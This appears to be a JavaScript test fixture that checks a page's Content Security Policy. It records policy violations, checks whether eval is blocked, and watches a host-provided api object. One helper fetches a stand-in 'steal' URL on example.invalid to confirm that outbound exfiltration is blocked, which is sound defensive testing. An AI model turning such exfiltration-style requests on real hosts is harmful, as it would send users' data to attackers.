// Loaded by the page itself: what a driver evaluates would slip past the policy.
globalThis.violations = [];
addEventListener('securitypolicyviolation', (event) => globalThis.violations.push(event.effectiveDirective));
globalThis.early = typeof globalThis.api;
try {
  globalThis.evalRan = eval('true');
} catch (error) {
  globalThis.evalRan = error.name;
}
globalThis.tryConnect = () =>
  fetch('https://example.invalid/steal').then(
    () => 'sent',
    (error) => error.name,
  );
globalThis.states = [];
globalThis.api?.onHostState((state) => globalThis.states.push(state));
